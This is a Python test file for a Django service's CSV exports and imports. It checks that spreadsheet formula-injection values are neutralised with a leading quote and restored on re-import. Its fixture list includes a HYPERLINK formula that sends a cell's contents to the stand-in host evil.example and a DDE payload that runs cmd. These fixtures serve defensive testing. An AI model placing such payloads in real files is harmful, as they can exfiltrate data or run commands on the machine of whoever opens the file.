"""CSV formula injection: every CSV the service writes is data."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from agents.csv_cells import defuse, restore
from agents.models import Agent, AgentGroup, Caller, Route

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "''twice",
]


@pytest.mark.parametrize("value", PLANTED)
def test_formula_cells_are_defused_and_restored(value):
    cell = defuse(value)
    assert cell.startswith("'")
    assert restore(cell) == value


@pytest.mark.parametrize(
    "value",
    ["+919900000001", "+919900000001;+918047190001", "-3", "12.5", "Asha", ""],
    ids=["e164", "e164-list", "negative", "decimal", "name", "empty"],
)
def test_data_stays_as_it_is(value):
    assert defuse(value) == value
    assert restore(defuse(value)) == value


def export(command: str) -> str:
    out = io.StringIO()
    call_command(command, "-", stdout=out)
    return out.getvalue()


def test_roster_exports_are_defused_and_round_trip(make_group, make_agent, tmp_path):
    group = make_group(slug="alpha", name="=HYPERLINK(1)", exophones="+918047190001")
    # A CR inside a name is left out: the roster files write "\n" line ends
    # and do not quote a lone CR (a limit of their own, not of defusing).
    names = [name for name in PLANTED if "\r" not in name]
    for name in names:
        make_agent(name=name, groups=[group])
    snapshot = sorted(Agent.objects.values_list("name", "phone"))
    agents_csv = export("export_agents")
    groups_csv = export("export_groups")
    cells = [row["name"] for row in csv.DictReader(io.StringIO(agents_csv))]
    assert len(cells) == len(names) and all(cell.startswith("'") for cell in cells)
    phones = [row["phone"] for row in csv.DictReader(io.StringIO(agents_csv))]
    assert all(phone.startswith("+91") for phone in phones)  # E.164 stays data
    (group_row,) = csv.DictReader(io.StringIO(groups_csv))
    assert group_row["name"] == "'=HYPERLINK(1)"
    assert group_row["exophones"] == "+918047190001"

    (tmp_path / "agents.csv").write_text(agents_csv)
    (tmp_path / "groups.csv").write_text(groups_csv)
    out = io.StringIO()
    call_command("import_groups", tmp_path / "groups.csv", stdout=out)
    call_command("import_agents", tmp_path / "agents.csv", stdout=out)
    assert "0 created, 0 updated, 1 unchanged" in out.getvalue()
    assert f"0 created, 0 updated, {len(names)} unchanged" in out.getvalue()
    assert sorted(Agent.objects.values_list("name", "phone")) == snapshot
    assert AgentGroup.objects.get().name == "=HYPERLINK(1)"
    assert export("export_agents") == agents_csv


def test_report_download_is_defused(admin_client, make_group, monkeypatch):
    make_group(slug="support")
    monkeypatch.setattr(
        "pages.supervisor.views.report_rows", lambda report: [["=1+1", "+919900000001"]]
    )
    download = admin_client.get(
        reverse("supervisor-report", args=["support"]), {"format": "csv"}
    )
    assert list(csv.reader(io.StringIO(download.content.decode()))) == [
        ["'=1+1", "+919900000001"]
    ]


def test_caller_and_route_exports_are_defused_and_round_trip(make_group, tmp_path):
    group = make_group(slug="alpha")
    Route.objects.create(slug="billing", group=group, digits="")
    Caller.objects.create(number="+919811111111", name="=HYPERLINK(1)", notes="@x")
    callers_csv = export("export_callers")
    (row,) = csv.DictReader(io.StringIO(callers_csv))
    assert (row["number"], row["name"], row["notes"]) == (
        "+919811111111",
        "'=HYPERLINK(1)",
        "'@x",
    )
    (tmp_path / "callers.csv").write_text(callers_csv)
    out = io.StringIO()
    call_command("import_callers", tmp_path / "callers.csv", stdout=out)
    assert "0 created, 0 updated, 1 unchanged" in out.getvalue()
    assert Caller.objects.get().name == "=HYPERLINK(1)"
    assert export("export_callers") == callers_csv
    routes_csv = export("export_routes")
    (tmp_path / "routes.csv").write_text(routes_csv)
    call_command("import_routes", tmp_path / "routes.csv", stdout=out)
    assert export("export_routes") == routes_csv
